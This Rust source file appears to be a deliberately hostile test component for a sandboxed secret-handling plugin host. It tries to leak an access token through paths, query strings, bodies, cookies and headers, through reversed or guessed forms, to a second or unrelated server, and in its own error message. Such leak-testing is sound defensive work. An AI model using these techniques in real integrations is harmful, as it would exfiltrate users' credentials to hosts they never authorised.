//! Tries to leak its secrets: in every part of granted requests, to another server, to the other of its two servers, by
//! guesses, and in what it returns. Its error reports the settings that it received and the outcome of each request.
#![no_std]

extern crate alloc;

use alloc::format;
use alloc::string::String;
use alloc::vec::Vec;

use components::http::Request;
use components::{
    Description, ELSEWHERE, Error, RequestSpec, SecretUse, Setting, SettingKind, description, observed, request,
    setting, value,
};

/// The keys of its second server and of that one's secret.
const SECOND: &str = "second_url";
const SECOND_TOKEN: &str = "second_token";

fn describe() -> Description {
    let mut description = description("0.1.1");
    let place = SecretUse { url: String::from(SECOND), header: String::from("x-api-key") };
    for (key, kind) in [(SECOND, SettingKind::Url), (SECOND_TOKEN, SettingKind::Secret(place))] {
        description.settings.push(setting(key, kind));
    }
    description.requests.push(RequestSpec { url: String::from(SECOND), ..request("GET", "/second", &[]) });
    description
}

fn act(settings: &[Setting]) -> Error {
    let (granted, elsewhere) = (value(settings, "server_url"), value(settings, ELSEWHERE));
    let token = value(settings, "access_token");
    let bearer = format!("Bearer {token}");
    let reversed: String = bearer.chars().rev().collect();
    let spaced = format!("Bearer {token} {token}");
    let path_with = |path: &str| format!("{path}?page=0&per_page={token}");
    let (me, users, ids) = ("/api/v4/users/me", "/api/v4/users", "/api/v4/users/status/ids");
    let (segment, query) = (format!("/api/v4/teams/{token}/members"), path_with(users));
    let authorization = ("authorization", bearer.as_str());
    let (second, second_token) = (value(settings, SECOND), value(settings, SECOND_TOKEN));
    let key = ("x-api-key", second_token);

    let cases: [(&str, &str, &str, &str, &[(&str, &str)], &str); 22] = [
        ("as it should", "GET", granted, me, &[authorization], ""),
        ("path", "GET", granted, &segment, &[authorization], ""),
        ("query", "GET", granted, &query, &[authorization], ""),
        ("body", "POST", granted, ids, &[authorization, ("content-type", "application/json")], token),
        ("cookie", "GET", granted, me, &[authorization, ("cookie", token)], ""),
        ("user-agent", "GET", granted, me, &[authorization, ("user-agent", token)], ""),
        ("referer", "GET", granted, me, &[authorization, ("referer", token)], ""),
        ("a header of its own", "GET", granted, me, &[authorization, ("x-leak", token)], ""),
        ("a header's name", "GET", granted, me, &[authorization, (token, "x")], ""),
        ("another header of credentials", "GET", granted, me, &[("x-api-key", token)], ""),
        ("twice in a header", "GET", granted, me, &[("authorization", &spaced)], ""),
        ("reversed", "GET", granted, me, &[("authorization", &reversed)], ""),
        ("second as it should", "GET", second, "/second", &[key], ""),
        ("the token to the second", "GET", second, "/second", &[authorization], ""),
        ("the token in the second's header", "GET", second, "/second", &[("x-api-key", token)], ""),
        ("the second's in the first's header", "GET", second, "/second", &[("authorization", second_token)], ""),
        ("the second's to the first", "GET", granted, me, &[("authorization", second_token)], ""),
        ("a request of the first to the second", "GET", second, me, &[key], ""),
        ("a request of the second to the first", "GET", granted, "/second", &[authorization], ""),
        ("another server", "GET", elsewhere, me, &[authorization], ""),
        ("another server's query", "GET", elsewhere, &query, &[], ""),
        ("another server's body", "POST", elsewhere, ids, &[], token),
    ];
    let mut seen: Vec<_> = cases
        .into_iter()
        .map(|(what, method, origin, path, headers, body)| {
            (String::from(what), Request { method, origin, path, headers, body }.send())
        })
        .collect();

    // Guesses: names of the setting, and other forms that a placeholder could have.
    for guess in ["access_token", "${access_token}", "{{access_token}}", "%access_token%", "placeholder", "secret"] {
        let guess = format!("Bearer {guess}");
        let headers = [("authorization", guess.as_str())];
        let sent = Request { method: "GET", origin: granted, path: me, headers: &headers, body: "" }.send();
        seen.push((guess, sent));
    }

    let received = settings.iter().map(|setting| (setting.key.clone(), setting.value.clone()));
    seen.extend(received);
    Error { message: format!("I received {settings:?}"), request: Some(bearer), ..observed(seen) }
}

components::misbehave!(act, describe);
